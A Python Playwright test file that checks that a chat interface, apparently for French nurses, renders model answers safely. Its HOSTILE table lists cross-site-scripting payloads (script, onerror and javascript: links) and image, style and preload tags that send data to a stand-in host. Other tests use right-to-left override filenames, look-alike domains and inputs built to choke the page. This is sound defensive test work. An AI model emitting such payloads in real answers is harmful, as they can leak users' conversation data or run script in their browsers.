"""A model's text is an attacker's text: nothing of it runs, is fetched, or leads where it should not."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.catalogue import ECHO
from tests.e2e.conversing import Conversation

# Each would call `window.__ran` or reach for a host that does not exist; a watched page reports the second.
HOSTILE = {
    "raw script": "<script>window.__ran = 1</script>",
    "raw image": "<img src=x onerror='window.__ran = 1'>",
    "raw frame": "<iframe srcdoc='<script>parent.__ran = 1</script>'></iframe>",
    "vector image": "<svg onload='window.__ran = 1'><a href='javascript:window.__ran=1'>x</a></svg>",
    "remote image": "![suivi](https://ailleurs.example/pixel.png?contenu=secret)",
    "image by reference": "![suivi][1]\n\n[1]: https://ailleurs.example/pixel.png",
    "script link": "[cliquez](javascript:window.__ran=1)",
    "hidden script link": "[cliquez](java\u200bscript:window.__ran=1)",
    "data link": "[cliquez](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==)",
    "relative link": "[cliquez](/api/session)",
    "style": "<style>body { background: url(https://ailleurs.example/fond.png) }</style>",
    "preload": "<link rel=preload as=image href=https://ailleurs.example/pixel.png>",
    "form": "<form action=https://ailleurs.example><button>Envoyer</button></form>",
}


def test_hostile_answers_do_nothing(nurse: Page) -> None:
    conversation = Conversation.begin(nurse, ECHO)
    turn = conversation.answered("\n\n".join(["Début", *HOSTILE.values(), "Fin"]))
    expect(turn.get_by_role("paragraph").last).to_have_text("Fin")
    expect(turn.get_by_role("img")).to_have_count(0)
    expect(turn.get_by_role("form")).to_have_count(0)
    for each in turn.get_by_text("cliquez", exact=True).all():
        each.click()
    addresses = [link.get_attribute("href") or "" for link in turn.get_by_role("link").all()]
    assert all(address.startswith("https://ailleurs.example/") for address in addresses), addresses
    # The text alone: the buttons under it have pictures of ours.
    text = turn.locator("[class*=answer]").filter(has=nurse.get_by_text("Fin", exact=True)).first
    expect(text.locator("script, iframe, svg, style, link, form")).to_have_count(0)
    assert nurse.evaluate("window.__ran") is None


@pytest.mark.parametrize("kind", ["script link", "data link"])
def test_an_address_that_would_run_is_no_link(nurse: Page, kind: str) -> None:
    conversation = Conversation.begin(nurse, ECHO)
    turn = conversation.answered(HOSTILE[kind])
    expect(turn.get_by_role("paragraph").last).to_have_text("cliquez")
    expect(turn.get_by_role("link")).to_have_count(0)


def test_a_link_shows_where_it_leads_and_tells_nothing_of_the_page(nurse: Page) -> None:
    conversation = Conversation.begin(nurse, ECHO)
    turn = conversation.answered("Voyez [la fiche de l’ARS](https://ailleurs.example/fiche?dossier=4012).")
    link = turn.get_by_role("link", name="la fiche de l’ARS")
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    expect(turn.get_by_role("paragraph").last).to_contain_text("(ailleurs.example/fiche?dossier=4012)")


def test_tables_and_code_are_drawn_and_reached_by_keyboard(nurse: Page) -> None:
    conversation = Conversation.begin(nurse, ECHO)
    turn = conversation.answered("| Dose | Voie |\n|---|---|\n| 10 mg | orale |\n\n```\nbonjour\n```")
    expect(turn.get_by_role("cell", name="10 mg")).to_be_visible()
    for name in ("Tableau, à faire défiler", "Code, à faire défiler"):
        turn.get_by_role("group", name=name).focus()
        expect(turn.get_by_role("group", name=name)).to_be_focused()


def test_links_that_carry_data_are_shown_whole_and_look_alikes_in_plain_letters(nurse: Page) -> None:
    conversation = Conversation.begin(nurse, ECHO)
    turn = conversation.answered(
        "[le formulaire](https://ailleurs.example/f?nom=Exemple#secret) et [l’hôpital](https://h\u043epital.fr/)"
    )
    expect(turn.get_by_role("paragraph").last).to_contain_text("(ailleurs.example/f?nom=Exemple#secret)")
    expect(turn.get_by_role("paragraph").last).to_contain_text("(xn--")


def test_overrides_of_direction_are_not_shown_whichever_way_they_come(nurse: Page) -> None:
    conversation = Conversation.begin(nurse, ECHO)
    turn = conversation.answered("facture\u202efdp.exe, facture&#x202e;fdp.exe et mot\u200bcaché")
    expect(turn.get_by_role("paragraph").last).to_have_text("facturefdp.exe, facturefdp.exe et motcaché")


def test_a_table_of_ten_thousand_cells_is_scrolled_to_its_end_and_the_page_responds(nurse: Page) -> None:
    rows = [f"|{number}|" + "a|" * 9 for number in range(1, 1000)]
    conversation = Conversation.begin(nurse, ECHO)
    turn = conversation.answered("\n".join(["|n°|" + "a|" * 9, "|" + "-|" * 10, *rows]))
    table = turn.get_by_role("group", name="Tableau, à faire défiler")
    expect(table.get_by_text("1", exact=True)).to_be_visible()
    # What is far from sight is not drawn: that is what would hold the page. A glide may draw what it passes.
    expect(table.get_by_text("500", exact=True)).to_have_count(0)
    table.focus()
    nurse.keyboard.press("End")
    expect(table.get_by_text("999", exact=True)).to_be_visible()
    expect(table.get_by_role("columnheader", name="n°")).to_have_count(1)
    conversation.box.fill("La page répond encore")
    expect(conversation.box).to_have_value("La page répond encore")


@pytest.mark.parametrize(
    "hostile",
    ["> " * 5_000 + "fin", "[" * 5_000 + " fin", "a" * 20_000 + " fin", "```\n" + "code\n" * 2_000 + "fin"],
    ids=["quotations", "brackets", "one word", "an open fence"],
)
def test_text_made_to_choke_on_is_shown(nurse: Page, hostile: str) -> None:
    conversation = Conversation.begin(nurse, ECHO)
    turn = conversation.answered(hostile)
    expect(turn).to_contain_text("fin")
    conversation.box.fill("La page répond encore")
    expect(conversation.box).to_have_value("La page répond encore")
